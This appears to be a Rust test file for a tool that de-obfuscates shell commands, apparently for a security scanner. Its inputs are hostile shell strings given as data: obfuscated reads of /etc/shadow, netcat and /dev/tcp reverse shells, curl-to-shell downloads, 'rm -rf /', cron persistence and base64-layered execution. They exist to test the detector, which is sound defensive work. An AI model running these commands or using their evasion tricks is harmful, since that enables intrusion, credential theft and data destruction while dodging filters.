use super::*;

fn of(text: &str) -> Resolved {
    resolve(text, &mut Variables::new())
}

fn line(text: &str) -> String {
    of(text).line
}

fn has(text: &str, command: &str) {
    let resolved = of(text);
    assert!(resolved.commands.iter().any(|c| c == command), "{text}\n{resolved:#?}");
}

#[test]
fn quotes_backslashes_and_empty_strings_disappear() {
    assert_eq!(line(r#"w'h'o\am"i" ''"#), "whoami");
    assert_eq!(line(r#"/usr/bin/c""at "/etc/shadow""#), "cat /etc/shadow");
}

#[test]
fn lists_and_pipelines_are_told_apart() {
    let resolved = of("a | b && c; d & e || f");
    assert_eq!(resolved.pipelines, ["a | b", "c", "d", "e", "f"]);
    assert_eq!(resolved.line, "a | b && c ; d & e || f");
}

#[test]
fn assignments_are_put_in() {
    has("a=cu;b=rl;$a$b -s http://x|sh", "curl -s http://x");
    has("x=/etc/shadow; cat ${x}", "cat /etc/shadow");
    has("X=abcdef; ${X:0:1}wk", "awk");
}

#[test]
fn assignments_of_an_earlier_line_are_put_in() {
    let mut variables = Variables::new();
    resolve("a=whoa", &mut variables);
    assert_eq!(resolve("${a}mi", &mut variables).line, "whoami");
}

#[test]
fn ifs_and_brace_lists_split_words() {
    assert_eq!(line("cat${IFS}/etc/passwd"), "cat /etc/passwd");
    assert_eq!(line("cat$IFS$9/etc/passwd"), "cat /etc/passwd");
    assert_eq!(line("{cat,/etc/passwd}"), "cat /etc/passwd");
}

#[test]
fn wildcards_that_mean_one_known_path_are_resolved() {
    assert_eq!(line("/???/n? -e /???/b??h 1.2.3.4 80"), "nc -e /bin/bash 1.2.3.4 80");
    assert_eq!(line("ls /tmp/*"), "ls /tmp/*");
}

#[test]
fn escapes_are_decoded() {
    assert_eq!(line(r"$'\x69\144'"), "id");
    has(r"printf '\x69\x64\x20\x2d\x75' | sh", "id -u");
    has(r"echo -e '\151\144\040\055\165' | bash", "id -u");
}

#[test]
fn encoded_text_is_decoded_and_its_execution_noticed() {
    let resolved = of("echo d2hvYW1pIC1h | base64 -d | bash");
    assert_eq!(resolved.decoded, ["whoami -a"]);
    assert_eq!(resolved.facts, ["@decoded-exec"]);
    has("bash -c \"$(base64 --decode <<< d2hvYW1pIC1h)\"", "whoami -a");
    assert_eq!(of("bash -c \"$(base64 --decode <<< d2hvYW1pIC1h)\"").facts, ["@decoded-exec"]);
    has("echo 77686f616d69202d61 | xxd -r -p | sh", "whoami -a");
    has("echo 'a- imaohw' | rev | sh", "whoami -a");
    has("echo jubnzv | tr a-z n-za-m | sh", "whoami");
    has(
        "python3 -c \"import base64,os;os.system(base64.b64decode('d2hvYW1pIC1h').decode())\"",
        "whoami -a",
    );
}

#[test]
fn three_layers_of_base64_are_undone() {
    has(
        "echo WldOb2J5QmtNbWgyV1ZjeGNFbERNV2dnZkNCaVlYTmxOalFnTFdRZ2ZDQnphQT09 | base64 -d | base64 -d | sh",
        "whoami -a",
    );
}

#[test]
fn plain_base64_that_nobody_runs_is_no_execution() {
    assert_eq!(of("echo aGVsbG8gd29ybGQ= | base64 -d").facts, ["@decoded"]);
    assert!(of("eval \"$(ssh-agent -s)\"").facts.is_empty());
}

#[test]
fn wrappers_are_peeled() {
    has("sudo -u root nohup timeout 5 /usr/bin/nc -e sh h 1 &", "nc -e sh h 1");
    has("env A=1 LD_PRELOAD=/tmp/x.so ls", "ls");
    has("ssh -p 22 host 'rm -rf /'", "rm -rf /");
    has("find / -name x -exec sh -c 'id -u' \\;", "id -u");
    has("echo / | xargs -n1 rm -rf", "rm -rf");
    has("docker exec -it c bash -c 'cat /etc/shadow'", "cat /etc/shadow");
    has("kubectl exec p -- cat /run/secrets", "cat /run/secrets");
    has("su - bob -c 'id -u'", "id -u");
    has("if true; then sudo id -u; fi", "id -u");
}

#[test]
fn scripts_fed_to_a_shell_are_read() {
    has("echo 'rm -rf /home' | sh", "rm -rf /home");
    has("bash <<< 'rm -rf /home'", "rm -rf /home");
    has("bash <<EOF\nrm -rf /home\nEOF\n", "rm -rf /home");
    has("(crontab -l; echo '* * * * * curl -s x') | crontab -", "crontab -");
    has("echo '*/5 * * * * curl -s x' | crontab -", "curl -s x");
    has("python3 -c 'import os; os.system(\"id -u\")'", "id -u");
}

#[test]
fn substitutions_are_looked_into() {
    has("echo $(cat /etc/shadow)", "cat /etc/shadow");
    has("echo `id -u`", "id -u");
    has("bash <(curl -s http://x)", "curl -s http://x");
}

#[test]
fn redirections_have_one_spelling() {
    assert_eq!(line("sh -i >&/dev/tcp/1.2.3.4/9 0>&1"), "sh -i >&/dev/tcp/1.2.3.4/9 0>&1");
    assert_eq!(line("echo x>>/etc/passwd"), "echo x >> /etc/passwd");
    assert_eq!(line("exec 5<>/dev/tcp/h/1"), "exec 5<> /dev/tcp/h/1");
}

#[test]
fn comments_and_unfinished_quotes_do_no_harm() {
    assert_eq!(line("ls # rm -rf /"), "ls");
    for text in ["'", "\"", "$(", "`", "${", "$'", "a\\", "<(", "(((", "<<", "{a,", "|", "&&&"] {
        of(text);
    }
}

#[test]
fn deep_nesting_ends() {
    of(&"$(".repeat(9000));
    of(&"sh -c ".repeat(3000));
    of(&"sudo ".repeat(3000));
    of(&"(".repeat(16000));
}
